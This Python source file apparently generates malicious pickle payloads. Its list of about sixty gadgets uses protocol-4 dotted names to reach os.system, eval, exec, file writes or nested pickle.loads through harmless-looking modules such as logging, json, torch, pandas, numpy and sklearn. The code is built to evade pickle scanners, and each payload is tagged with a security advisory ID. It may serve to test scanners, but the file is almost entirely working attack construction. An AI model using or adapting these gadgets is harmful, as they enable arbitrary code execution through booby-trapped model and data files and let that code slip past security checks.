"""Dotted names (protocol 4) that walk from a module nobody suspects to one that executes."""
from assembler import EXPRESSION, FILE, PYTHON, SHELL, Call, G
from gadgets import NESTED

# Modules that happen to hold another one: a dotted name (protocol 4) walks through them.
INNOCENT = [
    ("logging", "os.system"), ("random", "_os.system"), ("shutil", "os.system"), ("tempfile", "_os.system"), ("pathlib", "os.system"),
    ("glob", "os.system"), ("inspect", "os.system"), ("os", "path.os.system"), ("posixpath", "os.system"), ("warnings", "sys.modules"),
    ("collections", "_sys.modules"), ("weakref", "sys.modules"), ("enum", "sys.modules"), ("json", "codecs.builtins.eval"),
    ("numpy.lib._datasource", "os.system"), ("numpy.compat.py3k", "os.system"), ("joblib.disk", "shutil.os.system"), ("scipy.stats._sobol", "os.system"), ("scipy.fft._pocketfft.helper", "os.system"), ("torch.fx.node", "builtins.eval"), ("torch.jit._trace", "os.system"), ("torch.hub", "os.system"), ("torch.utils.data.dataloader", "os.system"), ("torch.serialization", "pickle.loads"), ("torch.jit.annotations", "builtins.eval"), ("pandas.core.common", "builtins.eval"), ("pandas.core.generic", "pickle.loads"), ("pandas.io.pickle", "pickle.loads"), ("sklearn.utils._openmp_helpers", "os.system"), ("joblib.externals.cloudpickle", "pickle.loads"), ("joblib._memmapping_reducer", "os.system"), ("torch._jit_internal", "pickle.loads"), ("numpy.random._pickle", "__builtins__"), ("numpy", "testing._private.utils.os.system"), ("numpy", "lib.format.pickle.loads"),
    ("torch", "os.system"), ("torch._utils", "sys.modules"), ("torch.serialization", "os.system"), ("torch.storage", "io.open"), ("torch", "builtins.eval"),
    ("joblib", "os.system"), ("joblib.numpy_pickle", "os.system"), ("joblib.numpy_pickle", "pickle.loads"), ("sklearn", "os.system"), ("sklearn.base", "inspect.os.system"),
    ("pandas.io.common", "os.system"), ("pandas", "io.common.os.system"), ("pandas.compat.pickle_compat", "pkl.loads"), ("codecs", "builtins.eval"),
    ("collections", "namedtuple.__globals__"), ("copyreg", "_reconstructor.__globals__"), ("functools", "reduce.__self__"), ("builtins", "print.__self__.eval"),
    ("builtins", "getattr.__self__.exec"), ("datetime", "sys.modules"), ("fractions", "operator.attrgetter"), ("statistics", "sys.modules"),
    ("uuid", "os.system"), ("zipfile", "os.system"), ("threading", "_os.system"), ("subprocess", "os.system"), ("dataclasses", "sys.modules"), ("re", "enum.sys.modules"), ("typing", "sys.modules"),
]


def innocent():
    out = []
    for module, name in INNOCENT:
        start = G(f"{module}:{name}")
        if name.endswith(("system",)):
            expression = Call(start, SHELL)
        elif name.endswith("modules"):
            found = Call(G(f"{module}:{name}.get"), "posix")
            bound = Call(Call("operator:attrgetter", "system"), found) if len(out) % 2 else Call("builtins:getattr", found, "system")
            expression = Call(bound, SHELL)
        elif name.endswith("eval"):
            expression = Call(start, EXPRESSION)
        elif name.endswith("exec"):
            expression = Call(start, PYTHON)
        elif name.endswith("open"):
            expression = Call(start, FILE, "w")
        elif name.endswith("loads"):
            expression = Call(start, NESTED)
        elif name.endswith("__globals__"):
            expression = Call(Call("operator:getitem", Call("operator:getitem", start, "__builtins__"), "eval"), EXPRESSION)
        elif name.endswith("__builtins__"):
            expression = Call(Call("operator:getitem", start, "eval"), EXPRESSION)
        elif name.endswith("reduce.__self__"):
            expression = Call(Call("functools:reduce.__self__.reduce", G("builtins:getattr"), ["system"], G("logging:os")), SHELL)
        else:
            expression = Call(Call(Call(start, "system"), G("logging:os")), SHELL)
        out.append((f"{module}.{name}", "dotted name through an innocent module", ["GHSA-q5qq-mvfm-j35x", "CVE-2026-22609"], expression))
    return out
